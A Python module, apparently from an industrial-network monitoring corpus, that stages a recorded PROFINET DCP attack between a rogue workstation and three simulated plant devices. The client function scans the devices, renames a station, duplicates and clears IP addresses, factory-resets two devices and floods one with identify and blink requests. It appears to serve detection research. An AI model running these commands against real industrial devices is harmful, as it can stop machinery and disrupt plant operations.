"""A rogue workstation scans for PROFINET devices, takes name and addresses of some, resets them to factory
settings, and lets one flash and answer without end."""

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "profinet-dcp/recorded-attack",
    stacks=("pnio-dcp 1.2.0",),
    servers=("10.70.1.10",),
    clients=("10.70.1.20",),
)


def server() -> None:
    """Three devices at work."""
    from _profinet_dcp import DRIVE, PUMP, VALVE, Station, serve

    serve(
        [
            Station(PUMP, "pump-1", "10.70.1.10"),
            Station(VALVE, "valve-12", "10.70.1.11"),
            Station(DRIVE, "drive-3", "10.70.1.12"),
        ]
    )


def client() -> None:
    """Scan, rename, double an address, take one away, reset, flood."""
    from _profinet_dcp import ATTACKER, DRIVE, PUMP, VALVE, tool

    rogue = tool(ATTACKER)
    rogue.identify_all(timeout=1)
    rogue.set_name_of_station(PUMP, "broken")
    rogue.set_ip_address(DRIVE, ["10.70.1.11", "255.255.255.0", "0.0.0.0"])
    rogue.identify(DRIVE)
    rogue.set_ip_address(PUMP, ["0.0.0.0", "0.0.0.0", "0.0.0.0"])
    rogue.factory_reset(PUMP)
    rogue.reset_to_factory(DRIVE)
    for _ in range(25):
        rogue.blink(VALVE)
    for _ in range(105):
        rogue.identify(VALVE)
